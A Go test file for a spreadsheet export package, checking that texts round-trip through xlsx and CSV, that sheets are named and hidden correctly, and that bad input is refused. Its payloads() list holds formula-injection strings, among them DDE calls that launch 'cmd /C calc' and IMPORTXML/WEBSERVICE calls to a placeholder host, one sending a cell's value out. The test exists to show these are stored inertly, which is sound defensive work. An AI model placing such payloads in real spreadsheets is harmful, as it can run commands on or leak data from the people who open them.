package workbooks

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"iter"
	"os"
	"slices"
	"strings"
	"testing"

	"qunxian/app/sheets"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

// payloads are 200 texts and more that some spreadsheet takes for a formula or
// a command, and the like of them that it does not.
func payloads() []string {
	signs := []string{"=", "+", "-", "@", "\t", "\n", "＝", "＋", "－", "＠"}
	bodies := []string{
		"1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x\",\"点\")", "SUM(1+1)*cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")",
		"IMPORTXML(CONCAT(\"http://x?v=\",A1),\"//a\")", "", "'", "=1", "WEBSERVICE(\"http://x\")",
	}
	var all []string
	for _, sign := range signs {
		for _, body := range bodies {
			all = append(all, sign+body, "'"+sign+body, "''"+sign+body, "文"+sign+body)
		}
	}
	return append(all, "", "'", "''", "'a", "420106198503152518", "-5", "+86 137", "_x0041_", "_x005F_x0041_", "_x005F_", "a_x000D_\n", " 空格 ", "a,b;c|\"d\"", "\n", "𠮷田䶮\u200d", "\u202e反")
}

// texts reads back the first sheet.
func texts(content []byte) ([][]string, error) {
	book, err := sheets.Open("名单.csv", content, sheets.Limits{})
	if err != nil {
		return nil, err
	}
	var got [][]string
	for row, err := range book.Sheets[0].Rows() {
		if err != nil {
			return got, err
		}
		got = append(got, row.Texts())
	}
	return got, nil
}

// many yields n rows of cells as a register has them.
func many(n, width int) iter.Seq[[]string] {
	return func(yield func([]string) bool) {
		for i := range n {
			row := make([]string, width)
			for k := range row {
				row[k] = fmt.Sprintf("值%d-%d", k, i*7919%3000)
			}
			if !yield(row) {
				return
			}
		}
	}
}

// rowsOf puts each text in a row between two others.
func rowsOf(texts []string) [][]string {
	var rows [][]string
	for _, s := range texts {
		rows = append(rows, []string{"前", s, "后"})
	}
	return rows
}

// TestRoundTrip writes texts as xlsx and both CSV and reads them unchanged.
func TestRoundTrip(t *testing.T) {
	rows := rowsOf(payloads())
	for i := range 10_000 {
		rows = append(rows, []string{fmt.Sprintf("4201061985%08d", i)})
	}
	for name, write := range map[string]func(io.Writer) error{
		"xlsx":    func(w io.Writer) error { return Write(w, []Out{{Name: "表", Rows: slices.Values(rows)}}) },
		"utf-8":   func(w io.Writer) error { return WriteCSV(w, slices.Values(rows), CSVUTF8) },
		"gb18030": func(w io.Writer) error { return WriteCSV(w, slices.Values(rows), CSVGB18030) },
	} {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(name, err)
		}
		got, err := texts(b.Bytes())
		if diff := cmp.Diff(rows, got); err != nil || diff != "" {
			t.Error(name, err, diff)
		}
		if name != "xlsx" {
			continue
		}
		f, err := excelize.OpenReader(&b)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		for i := range rows {
			cell := fmt.Sprintf("B%d", i+1)
			formula, err := f.GetCellFormula("表", cell)
			if err != nil || formula != "" {
				t.Error(cell, formula, err)
			}
		}
	}
}

// TestWrite makes a header, a frozen pane, widths, a footer and lawful names.
func TestWrite(t *testing.T) {
	var b bytes.Buffer
	long := strings.Repeat("长", 40)
	err := Write(&b, []Out{
		{Name: "a/b:c", Headers: []string{"姓名", "证件"}, Widths: []float64{12, 22}, Rows: slices.Values([][]string{{"张伟", "=1"}, {}, {"李芳"}}), Footer: []string{"导出人：王五"}},
		{Name: "A_B_C", Rows: slices.Values([][]string{{"x"}})},
		{Name: long, Hidden: true},
		{Name: long},
		{Name: ""},
	})
	if err != nil {
		t.Fatal(err)
	}
	book, err := sheets.Open("x", b.Bytes(), sheets.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, s := range book.Sheets {
		names = append(names, s.Name)
	}
	if diff := cmp.Diff([]string{"a_b_c", "A_B_C(2)", long[:93], long[:84] + "(2)", "表5"}, names); diff != "" {
		t.Error(diff)
	}
	if !book.Sheets[2].Hidden || book.Sheets[3].Hidden {
		t.Error("hidden sheets")
	}
	var got [][]string
	for row, err := range book.Sheets[0].Rows() {
		if err != nil {
			t.Fatal(err)
		}
		if len(row.Cells) > 0 {
			got = append(got, append([]string{fmt.Sprint(row.Number)}, row.Texts()...))
		}
	}
	if diff := cmp.Diff([][]string{{"1", "姓名", "证件"}, {"2", "张伟", "=1"}, {"4", "李芳"}, {"6", "导出人：王五"}}, got); diff != "" {
		t.Error(diff)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	panes, err := f.GetPanes("a_b_c")
	width, _ := f.GetColWidth("a_b_c", "B")
	if err != nil || !panes.Freeze || panes.YSplit != 1 || width != 22 {
		t.Error(panes, width, err)
	}
}

// TestHiddenSheets hides sheets wherever they stand, but never all of them.
func TestHiddenSheets(t *testing.T) {
	for _, c := range []struct{ hidden, want []bool }{
		{[]bool{true, false, true}, []bool{true, false, true}},
		{[]bool{true, true}, []bool{false, true}},
		{[]bool{true}, []bool{false}},
	} {
		var out []Out
		for _, h := range c.hidden {
			out = append(out, Out{Name: "表", Hidden: h, Rows: many(1, 20)})
		}
		var b bytes.Buffer
		if err := Write(&b, out); err != nil {
			t.Fatal(err)
		}
		book, err := sheets.Open("x", b.Bytes(), sheets.Limits{})
		if err != nil {
			t.Fatal(err)
		}
		for i, s := range book.Sheets {
			if s.Hidden != c.want[i] {
				t.Errorf("%v: sheet %d hidden is %v", c.hidden, i, s.Hidden)
			}
			for row, err := range s.Rows() {
				if len(row.Cells) != 20 || err != nil {
					t.Error(len(row.Cells), err)
				}
			}
		}
	}
}

// TestWriteRefuses holds that a text is refused rather than cut or changed.
func TestWriteRefuses(t *testing.T) {
	for _, s := range []string{strings.Repeat("长", 32768), strings.Repeat("𠮷", 16384), "a\x01", "\xff", "a\x00", "\ufffe"} {
		rows := slices.Values([][]string{{"x"}, {"y", s}})
		if err := Write(io.Discard, []Out{{Name: "表", Rows: rows}}); err == nil || !strings.Contains(err.Error(), "row 2 column B") {
			t.Errorf("%.20q: %v", s, err)
		}
	}
	for _, s := range []string{"\xff", "a\x00"} {
		if err := WriteCSV(io.Discard, slices.Values([][]string{{s}}), CSVUTF8); err == nil {
			t.Errorf("CSV took %q", s)
		}
	}
	if err := WriteCSV(io.Discard, slices.Values([][]string{{"a"}}), "big5"); err == nil {
		t.Error("CSV took big5")
	}
}

// TestLeavesNoFiles holds that large writes leave nothing in the temporary
// folder, done or failed.
func TestLeavesNoFiles(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	rows := func(last string) Out {
		return Out{Name: "表", Rows: func(yield func([]string) bool) {
			for range 9000 {
				if !yield([]string{strings.Repeat("长", 700)}) {
					return
				}
			}
			yield([]string{last})
		}}
	}
	if err := Write(io.Discard, []Out{rows("好")}); err != nil {
		t.Fatal(err)
	}
	if err := Write(io.Discard, []Out{rows("\x01")}); err == nil {
		t.Fatal("took a control character")
	}
	left, err := os.ReadDir(dir)
	if err != nil || len(left) > 0 {
		t.Error(left, err)
	}
}

// TestAnnotate copies a book with a verdict beside each row, every row under
// its number and errors of Excel as they were.
func TestAnnotate(t *testing.T) {
	f := excelize.NewFile()
	defer f.Close()
	if _, err := f.NewSheet("附表"); err != nil {
		t.Fatal(err)
	}
	for cell, v := range map[string]string{"A1": "人才台账", "A3": "姓名", "B3": "单位", "A4": "张示例", "B4": "示例农业公司", "A6": "李示例", "A7": "王示例"} {
		if err := f.SetCellStr("Sheet1", cell, v); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(f.SetCellStr("附表", "A1", "说明"), f.SetCellFormula("Sheet1", "B7", "NA()"), f.SetSheetVisible("附表", false)); err != nil {
		t.Fatal(err)
	}
	var plain, copied bytes.Buffer
	if err := f.Write(&plain); err != nil {
		t.Fatal(err)
	}
	book, err := sheets.Open("台账.xlsx", plain.Bytes(), sheets.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	err = Annotate(&copied, book, map[string]Verdicts{"Sheet1": {HeaderRow: 3, Rows: map[int]Verdict{
		4: {"新增", nil}, 6: {"拒绝", []string{"身份证号丢失末位数字", "=1"}}, 7: {"疑似同名", []string{"出生日期不一致"}},
	}}})
	if err != nil {
		t.Fatal(err)
	}
	again, err := sheets.Open("x", copied.Bytes(), sheets.Limits{})
	if err != nil || len(again.Sheets) != 2 || !again.Sheets[1].Hidden {
		t.Fatal(again, err)
	}
	got := map[int][]string{}
	for row, err := range again.Sheets[0].Rows() {
		if err != nil {
			t.Fatal(err)
		}
		if len(row.Cells) > 0 {
			got[row.Number] = row.Texts()
		}
	}
	want := map[int][]string{
		1: {"人才台账"}, 3: {"姓名", "单位", "结果", "原因"}, 4: {"张示例", "示例农业公司", "新增"},
		6: {"李示例", "", "拒绝", "身份证号丢失末位数字；=1"}, 7: {"王示例", "", "疑似同名", "出生日期不一致"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

// TestTemplate makes columns that keep digits, lists, and an explanation, and
// is read back as a table.
func TestTemplate(t *testing.T) {
	var areas []string
	for i := range 300 {
		areas = append(areas, fmt.Sprintf("县区%03d", i))
	}
	var b bytes.Buffer
	err := Template(&b, "人才", []Field{
		{Title: "姓名", Note: "与证件一致", Required: true},
		{Title: "性别", Options: []string{"男", "女"}, Width: 8},
		{Title: "手机", Note: "11 位"},
		{Title: "县区", Options: areas},
	})
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	lists, err := f.GetDataValidations("人才")
	if err != nil || len(lists) != 2 || lists[1].Formula1 != "'选项'!$D$1:$D$300" || lists[0].Sqref != "B2:B2000" {
		t.Errorf("%v %+v", err, lists)
	}
	id, err := f.GetCellStyle("人才", "C5")
	if err != nil {
		t.Fatal(err)
	}
	if style, err := f.GetStyle(id); err != nil || style.NumFmt != 49 {
		t.Error("not text:", style, err)
	}
	book, err := sheets.Open("x", b.Bytes(), sheets.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if got := fmt.Sprint(book.Sheets[0].Name, book.Sheets[1].Name, book.Sheets[2].Name, book.Sheets[2].Hidden); got != "人才填表说明选项true" {
		t.Error(got)
	}
	columns := []sheets.Column{{Field: "name", Aliases: []string{"姓名"}}, {Field: "phone", Aliases: []string{"手机"}}}
	table, err := book.Sheets[0].Table(columns)
	if err != nil {
		t.Fatal(err)
	}
	if m := sheets.Match(table.Headers, columns); m.Column("name") != 0 || m.Column("phone") != 2 {
		t.Error(m)
	}
	for row := range table.Rows() {
		t.Errorf("a row to import: %+v", row)
	}
}

// BenchmarkWrite writes 20,000 rows of 20 columns as xlsx.
func BenchmarkWrite(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		if err := Write(io.Discard, []Out{{Name: "人才", Rows: many(20_000, 20)}}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkRead opens and reads them.
func BenchmarkRead(b *testing.B) {
	var xlsx, csv bytes.Buffer
	if err := Write(&xlsx, []Out{{Name: "人才", Rows: many(20_000, 20)}}); err != nil {
		b.Fatal(err)
	}
	if err := WriteCSV(&csv, many(20_000, 20), CSVGB18030); err != nil {
		b.Fatal(err)
	}
	for name, content := range map[string][]byte{"xlsx": xlsx.Bytes(), "csv": csv.Bytes()} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if rows, err := texts(content); err != nil || len(rows) != 20_000 {
					b.Fatal(len(rows), err)
				}
			}
		})
	}
}
